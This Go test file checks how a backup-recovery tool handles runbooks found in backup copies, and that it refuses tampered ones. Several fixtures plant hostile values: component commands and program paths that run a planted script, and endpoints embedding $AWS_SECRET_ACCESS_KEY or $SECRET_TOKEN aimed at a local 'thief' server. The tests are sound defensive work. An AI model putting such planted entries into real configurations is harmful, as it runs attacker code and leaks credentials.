package main

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"comeback/recovery"
	"comeback/recovery/backup"
	"comeback/recovery/runner"
	"comeback/runbooks"
	"comeback/storage"
	"comeback/storage/s3"
	"comeback/storagetest"
)

// copiedBook is a runbook of files whose backup has stored it in its copy.
type copiedBook struct {
	*rig
	book, copy string
}

func openCopiedBook(t *testing.T) copiedBook {
	t.Helper()
	r, book := newRig(t), filesBook(t, "")
	b := copiedBook{rig: r, book: book}
	opened, _, err := r.app(os.Stderr, os.Stderr).open(t.Context(), book)
	if err != nil {
		t.Fatal(err)
	}
	c, _ := opened.Copy("nearby")
	b.copy = strings.TrimPrefix(c.URL, "file://")
	pages, _ := opened.Component("pages")
	path := pages.Settings["path"][0]
	if err := os.MkdirAll(path, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(path, "index.html"), []byte("welcome\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r.run(t.Context(), "backup", book).has(t, recovery.CameBack, "nearby")
	return b
}

// books are the runbooks in the copy, the oldest first.
func (b copiedBook) books(t *testing.T) []string {
	t.Helper()
	found, err := filepath.Glob(filepath.Join(b.copy, "comeback", "runbooks", "*", "*.md"))
	if err != nil || len(found) == 0 {
		t.Fatalf("%v, %v", found, err)
	}
	return found
}

// Where the host and its runbook are gone, the URL of a copy does what the file did: it
// is rehearsed, and the run has recorded which it was.
func TestRunbookInCopy(t *testing.T) {
	b := openCopiedBook(t)
	text, err := os.ReadFile(b.book)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(b.book); err != nil {
		t.Fatal(err)
	}
	stored := "file://" + b.books(t)[0]
	for _, from := range []string{"", "/", "/comeback/runbooks", "/comeback/runbooks/shop", "/comeback/runbooks/shop/"} {
		got := b.run(t.Context(), "runbook", "lint", "file://"+b.copy+from)
		got.has(t, recovery.CameBack, "no errors")
		if want := "SHA-256 " + sumOf(text) + ": " + stored + "\n"; strings.Count(got.err, "\n") != 1 || !strings.HasSuffix(got.err, want) || !strings.Contains(got.err, "the runbook is that of 2") {
			t.Errorf("%s: said is %q, want its time and %q", from, got.err, want)
		}
	}
	got := b.run(t.Context(), "rehearse", "file://"+b.copy, "--json")
	got.has(t, recovery.CameBack)
	if strings.Contains(got.out, "the runbook is") || !strings.Contains(got.err, stored) {
		t.Errorf("said is %q", got.err)
	}
	p, err := (runner.Home{Dir: b.state}).Load(filepath.Base(b.only(t)))
	if err != nil || p.Problem != nil {
		t.Fatal(err, p.Problem)
	}
	if p.Plan.Runbook != (recovery.Source{Path: stored, SHA256: sumOf(text)}) {
		t.Errorf("the run was made from %+v", p.Plan.Runbook)
	}
	for _, args := range [][]string{{"moments"}, {"check", "--no-canary"}, {"recover", "--dry-run", "--to", "latest"}, {"rehearse", "--dry-run"}, {"backup"}, {"retain"}} {
		if got := b.run(t.Context(), append(args, "file://"+b.copy)...); !strings.Contains(got.err, stored) || got.code == recovery.Usage {
			t.Errorf("%v: exit %d, %s%s", args, got.code, got.out, got.err)
		}
	}
	// The console knows it from the run, and asks no copy.
	if err := os.RemoveAll(filepath.Join(b.copy, "comeback")); err != nil {
		t.Fatal(err)
	}
	var said bytes.Buffer
	a := b.app(&said, &said)
	d := &desk{app: a}
	systems, err := d.Systems(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	var known []string
	for _, s := range systems {
		known = append(known, s.Name+" "+s.Runbook)
		if s.SHA256 != sumOf(text) || len(s.Problems) > 0 {
			t.Errorf("%+v", s)
		}
	}
	if len(known) != 1 || known[0] != "shop "+stored {
		t.Errorf("known are %q", known)
	}
	if opened, err := d.Open(t.Context(), stored); err != nil || opened.Text != string(text) || said.Len() > 0 {
		t.Errorf("%v, %q", err, said.String())
	}
}

// The console does so, too, with its questions, and the run goes on when the copy has lost
// its runbooks meanwhile.
func TestRunbookInCopy_console(t *testing.T) {
	b := openCopiedBook(t)
	stored := b.books(t)[0]
	c := converse(t, b.rig, t.TempDir(), "rehearse", "file://"+b.copy, "--to", "latest", "--plain")
	c.isTold("PLAN", "start the rehearsal")
	if err := os.RemoveAll(filepath.Join(b.copy, "comeback", "runbooks")); err != nil {
		t.Fatal(err)
	}
	c.answers("start")
	c.hears("NOTHING WAS CHECKED")
	c.answers("quit")
	if code := c.ends(); code != int(recovery.CameBack) {
		t.Errorf("exit %d", code)
	}
	p, err := (runner.Home{Dir: b.state}).Load(filepath.Base(b.only(t)))
	if err != nil || p.Plan.Runbook.Path != "file://"+stored {
		t.Errorf("%v, made from %+v", err, p.Plan.Runbook)
	}
}

// The newest is taken, also where it is one that there was before; an older one by its
// own URL.
func TestRunbookInCopy_newest(t *testing.T) {
	b := openCopiedBook(t)
	first, err := os.ReadFile(b.book)
	if err != nil {
		t.Fatal(err)
	}
	second := append(bytes.Clone(first), "\nCall the owner of the pages.\n"...)
	for _, text := range [][]byte{second, first} {
		if err := os.WriteFile(b.book, text, 0o600); err != nil {
			t.Fatal(err)
		}
		b.run(t.Context(), "backup", b.book).has(t, recovery.CameBack)
		got := b.run(t.Context(), "runbook", "lint", "file://"+b.copy)
		if !strings.Contains(got.err, "SHA-256 "+sumOf(text)) {
			t.Errorf("said is %q, want %s", got.err, sumOf(text))
		}
	}
	books := b.books(t)
	if len(books) != 3 {
		t.Fatalf("%q", books)
	}
	b.run(t.Context(), "runbook", "lint", "file://"+books[1]).has(t, recovery.CameBack, "SHA-256 "+sumOf(second))
	b.run(t.Context(), "backup", b.book).has(t, recovery.CameBack)
	if n := len(b.books(t)); n != 3 {
		t.Errorf("the same is stored again: %d", n)
	}
	// What was changed in the copy is not taken.
	if err := os.WriteFile(books[2], second, 0o600); err != nil {
		t.Fatal(err)
	}
	b.run(t.Context(), "rehearse", "file://"+b.copy, "--plain").has(t, recovery.Refused, "is not what it was when it was stored", "next: find out who changed it")
	b.noRun(t)
}

// What does not lead to one runbook says why and what to do.
func TestRunbookInCopy_refused(t *testing.T) {
	b := openCopiedBook(t)
	empty := t.TempDir()
	two := t.TempDir()
	for _, system := range []string{"blog", "shop"} {
		dir := filepath.Join(two, "comeback", "runbooks", system)
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		text, err := runbooks.New(runbooks.Draft{System: system})
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, "20261122T030005Z-"+sumOf(text)+".md"), text, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, c := range []struct{ url, says, next string }{
		{"file://" + empty, "file://" + empty + " holds no runbook", "next: give the URL of another copy"},
		{"file://" + empty + "/none", "does not exist", "next: correct the URL (file:///directory or s3://bucket/prefix)"},
		{"file://" + two, "holds the runbooks of 2 systems: blog, shop", "next: choose one by its URL, like file://" + two + "/comeback/runbooks/blog"},
		{"file://" + two + "/comeback/runbooks/wiki", "holds no runbook of wiki", "next: it has those of: blog, shop"},
		{"file://" + two + "/comeback/runbooks/shop/none.md", "there is no runbook file://", "next: leave the name of the file out"},
		{"file://" + two + "/comeback/runbooks/shop/old/ones", "is neither a copy nor a runbook in one", "next: give the URL of a copy"},
		{"file://host/copy", "is not the URL of a directory", "next: write file:///directory"},
		{filepath.Join(two, "none.md"), "no such file", "or the URL of a copy that holds it beside its backups"},
	} {
		b.run(t.Context(), "rehearse", c.url, "--plain").has(t, recovery.Usage, c.says, c.next)
	}
	b.run(t.Context(), "runbook", "lint", "file://"+two+"/comeback/runbooks/blog").has(t, recovery.CameBack, "the runbook is that of 2026-11-22T03:00:05Z")
	b.run(t.Context(), "schedule", "file://"+b.copy).has(t, recovery.Usage, "jobs go by a runbook that people change", "next: copy it to a file")
	b.noRun(t)
}

// In S3 all that a URL does not say comes from the environment.
func TestRunbookInCopy_s3(t *testing.T) {
	server, r := storagetest.StartS3(t), newRig(t)
	server.Setenv(t)
	server.CreateBucket("copies")
	const bucket = "copies"
	store, err := s3.Open(t.Context(), s3.Options{URL: "s3://" + bucket + "/shop", PathStyle: true})
	if err != nil {
		t.Fatal(err)
	}
	text, err := runbooks.New(runbooks.Draft{System: "shop"})
	if err != nil {
		t.Fatal(err)
	}
	key := backup.RunbooksIn + "shop/20261122T030005Z-" + sumOf(text) + ".md"
	if _, err := store.Put(t.Context(), key, bytes.NewReader(text), storage.PutOptions{Size: int64(len(text))}); err != nil {
		t.Fatal(err)
	}
	for _, url := range []string{"s3://" + bucket + "/shop", "s3://" + bucket + "/shop/comeback/runbooks/shop", "s3://" + bucket + "/shop/" + key} {
		r.run(t.Context(), "runbook", "lint", url).has(t, recovery.CameBack, "the runbook is that of 2026-11-22T03:00:05Z, SHA-256 "+sumOf(text)+": s3://"+bucket+"/shop/"+key)
	}
	r.run(t.Context(), "runbook", "lint", "s3://"+bucket).has(t, recovery.Usage, "holds no runbook")
	r.run(t.Context(), "runbook", "lint", "s3://"+bucket+"-none").has(t, recovery.Usage, "AWS_ENDPOINT_URL and AWS_PROFILE")
	t.Setenv("AWS_PROFILE", "no-such")
	r.run(t.Context(), "runbook", "lint", "s3://"+bucket+"/shop").has(t, recovery.Usage, "there is no profile no-such on this host", "aws configure --profile no-such; or unset AWS_PROFILE")
	t.Setenv("AWS_PROFILE", "")
	t.Setenv("AWS_SECRET_ACCESS_KEY", "wrong")
	r.run(t.Context(), "runbook", "lint", "s3://"+bucket+"/shop").has(t, recovery.Usage, "aws sts get-caller-identity")
	t.Setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:1")
	r.run(t.Context(), "runbook", "lint", "s3://"+bucket+"/shop").has(t, recovery.Failed, "next: check the network and AWS_ENDPOINT_URL")
}

// What was found in a copy, where nobody has named the very one, runs no program of this
// host to see what there is, removes nothing and changes nothing live unasked: whoever may
// write into the copy may have put it there. One of the future is not the newest.
func TestRunbookInCopy_found(t *testing.T) {
	b := openCopiedBook(t)
	from := "file://" + b.copy
	for _, args := range [][]string{{"retain", from, "--remove"}, {"recover", from, "--plain", "--to", "latest", "--confirm", "db1/shop"},
		{"recover", from, "--plain", "--to", "latest", "--confirm", "db1/shop", "--on", "elsewhere"}, {"rehearse", from, "--plain", "--on", "elsewhere"}} {
		b.run(t.Context(), args...).has(t, recovery.Refused, "the runbook was found in a copy", "give this very one: file://")
	}
	text, err := os.ReadFile(b.book)
	if err != nil {
		t.Fatal(err)
	}
	planted := strings.Replace(string(text), "components:\n", "components:\n  more: {kind: postgres, with: commands, list: [/bin/touch, "+b.copy+"/ran], fetch: [/bin/false]}\n", 1)
	if planted == string(text) {
		t.Fatalf("the runbook has no components:\n%s", text)
	}
	dir := filepath.Join(b.copy, "comeback", "runbooks", "shop")
	for stamp, want := range map[string]recovery.Exit{time.Now().Add(time.Hour).UTC().Format("20060102T150405Z"): recovery.Refused, "29990101T000000Z": recovery.CameBack} {
		name := filepath.Join(dir, stamp+"-"+sumOf([]byte(planted))+".md")
		if err := os.WriteFile(name, []byte(planted), 0o600); err != nil {
			t.Fatal(err)
		}
		got := b.run(t.Context(), "moments", from)
		if got.code != want || (want == recovery.Refused) != strings.Contains(got.err, "its component more has commands that this host would run") {
			t.Errorf("%s: exit %d\n%s%s", stamp, got.code, got.out, got.err)
		}
		if err := os.Remove(name); err != nil {
			t.Fatal(err)
		}
	}
	// Nor does any other setting that names a program, or a file that may name one.
	for add, says := range map[string]string{
		"components:\n  more: {kind: postgres, with: cnpg, context: a, namespace: b, cluster: c, kubectl: " + b.copy + "/program}\n":        "`kubectl` of its component more",
		"components:\n  more: {kind: postgres, with: pgbackrest, stanza: shop, environment: [PGBACKREST_CMD_SSH=" + b.copy + "/program]}\n": "`environment` of its component more",
		"components:\n  more: {kind: postgres, with: wal-g, config: " + b.copy + "/wal-g.json}\n":                                           "`config` of its component more",
		"notify: [" + b.copy + "/program]\ncomponents:\n":                                                                                   "its `notify:` is a command",
		// Nor does it say to whom what stands in the environment is told.
		"components:\n  more: {kind: postgres, url: \"postgres://u:${AWS_SECRET_ACCESS_KEY}@127.0.0.1:1/db\"}\n": "`url` of its component more says to whom this host would tell $AWS_SECRET_ACCESS_KEY",
	} {
		planted := strings.Replace(string(text), "components:\n", add, 1)
		name := filepath.Join(dir, time.Now().Add(time.Hour).UTC().Format("20060102T150405Z")+"-"+sumOf([]byte(planted))+".md")
		if err := os.WriteFile(name, []byte(planted), 0o600); err != nil {
			t.Fatal(err)
		}
		program := "#!/bin/sh\ntouch " + b.copy + "/ran\n"
		if err := os.WriteFile(filepath.Join(b.copy, "program"), []byte(program), 0o755); err != nil {
			t.Fatal(err)
		}
		b.run(t.Context(), "moments", from).has(t, recovery.Refused, says, "give this very one: "+from)
		if _, err := (&desk{app: b.app(io.Discard, io.Discard)}).Open(t.Context(), from); recovery.ExitOf(err) != recovery.Refused {
			t.Errorf("the console opens it: %v", err)
		}
		if err := os.Remove(name); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := os.Stat(filepath.Join(b.copy, "ran")); err == nil {
		t.Error("the program was run")
	}
}

// A copy's address in a runbook that was only found tells nobody what stands in the
// environment: whoever has put it there would name the host that is asked.
func TestRunbookInCopy_sends(t *testing.T) {
	var asked atomic.Int64
	thief := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked.Add(1) }))
	defer thief.Close()
	for add, says := range map[string]string{
		"url: \"s3://bucket/${SECRET_TOKEN}\", endpoint: " + thief.URL:                         "the address of its copy more says to whom this host would tell $SECRET_TOKEN",
		"url: s3://bucket/shop, endpoint: \"" + thief.URL + "/${SECRET_TOKEN}\"":               "the address of its copy more says to whom this host would tell $SECRET_TOKEN",
		"url: s3://bucket/shop, endpoint: " + thief.URL + ", account: \"${SECRET_TOKEN}\"":     "its copy more says to whom this host would tell $SECRET_TOKEN",
		"url: s3://bucket/shop, endpoint: " + thief.URL + ", region: \"eu-${SECRET_TOKEN}-1\"": "its copy more says to whom this host would tell $SECRET_TOKEN",
	} {
		r, copy := newRig(t), t.TempDir()
		r.environ["SECRET_TOKEN"] = "123456789012"
		t.Setenv("SECRET_TOKEN", "123456789012")
		dir := filepath.Join(copy, "comeback", "runbooks", "shop")
		if err := os.MkdirAll(dir, 0o700); err != nil {
			t.Fatal(err)
		}
		text := fmt.Sprintf("---\ncomeback: 1\nsystem: shop\nrpo: 1d\nrto: 1h\ncopies:\n  more: {%s}\ncomponents:\n  database: {kind: postgres, database: shop}\n---\n\n# Bring the shop back\n\n## Restore\nOwner: nobody. Budget: 1h.\n\n```yaml\nrestore: database\n```\n", add)
		name := filepath.Join(dir, "20261101T000000Z-"+sumOf([]byte(text))+".md")
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		r.run(t.Context(), "moments", "file://"+copy).has(t, recovery.Refused, says, "give this very one: file://"+name)
		r.run(t.Context(), "rehearse", "file://"+copy, "--plain").has(t, recovery.Refused, says)
		if n := asked.Load(); n > 0 {
			t.Fatalf("%s: it was asked %d times", add, n)
		}
	}
}

// A rehearsal by a runbook that was only found runs none of its scripts unasked: they run
// as whoever rehearses. Whoever names it, or has it signed, may.
func TestRunbookInCopy_foundRehearsal(t *testing.T) {
	b := openCopiedBook(t)
	text, err := os.ReadFile(b.book)
	if err != nil {
		t.Fatal(err)
	}
	text = append(text, "\n```sh\n# run: look around\n# in: rehearsal\ntrue\n```\n"...)
	name := filepath.Join(b.copy, "comeback", "runbooks", "shop", time.Now().Add(time.Minute).UTC().Format("20060102T150405Z")+"-"+sumOf(text)+".md")
	if err := os.WriteFile(name, text, 0o600); err != nil {
		t.Fatal(err)
	}
	from := "file://" + b.copy
	b.run(t.Context(), "moments", from).has(t, recovery.CameBack)
	b.run(t.Context(), "rehearse", from, "--plain").has(t, recovery.Refused, "“look around”", "give this very one: file://"+name)
	b.noRun(t)
	b.run(t.Context(), "rehearse", "file://"+name, "--plain").has(t, recovery.CameBack)
}

// What a rescue would change by a runbook that was only found, somebody is asked about.
func TestRunbookInCopy_foundRescue(t *testing.T) {
	l, r := theShop(t), newRig(t)
	r.environ["DATABASE_URL"] = l.URL()
	text, err := os.ReadFile(runbook(t, fmt.Sprintf("{url: %q}", l.CopyURL()), nil, ""))
	if err != nil {
		t.Fatal(err)
	}
	copy := t.TempDir()
	dir := filepath.Join(copy, "comeback", "runbooks", "shop")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "20261101T000000Z-"+sumOf(text)+".md"), text, 0o600); err != nil {
		t.Fatal(err)
	}
	args := []string{"rescue", "file://" + copy, "--xid", fmt.Sprint(l.incident.Harm.XID), "--plain"}
	name := r.planned(t, args...).Confirm
	if name == "" {
		t.Fatal("the rescue changes nothing live")
	}
	r.run(t.Context(), append(args, "--confirm", name)...).has(t, recovery.Refused, "the runbook was found in a copy", "give this very one: file://"+copy)
	r.noRun(t)
}

// What keeps a runbook of a copy from a plan may be changed in a file of it only.
func TestBook_asFile(t *testing.T) {
	why := recovery.Errorf("write `into: hand-over`", "the live server cannot be asked").WithExit(recovery.Refused)
	for path, want := range map[string]string{
		"/etc/comeback/shop.md":                    "write `into: hand-over`",
		"s3://backups/shop/comeback/runbooks/a.md": "write `into: hand-over`; what the runbook says is changed in a file: aws s3 cp s3://backups/shop/comeback/runbooks/a.md shop.md, then give that",
		"file:///mnt/the%20disk/a.md":              "write `into: hand-over`; what the runbook says is changed in a file: cp '/mnt/the disk/a.md' shop.md, then give that",
	} {
		b := &book{path: path, Runbook: &runbooks.Runbook{System: "shop"}}
		err := b.asFile(why)
		if recovery.HintOf(err) != want || recovery.ExitOf(err) != recovery.Refused || err.Error() != why.Error() {
			t.Errorf("%s: %v, next %q", path, err, recovery.HintOf(err))
		}
		unset := recovery.Errorf("export DATABASE_URL", "it is not set").WithExit(recovery.Usage)
		if err := b.asFile(unset); recovery.HintOf(err) != "export DATABASE_URL" {
			t.Errorf("%s: next %q", path, recovery.HintOf(err))
		}
		if b.asFile(nil) != nil {
			t.Errorf("%s: an error of nothing", path)
		}
	}
}
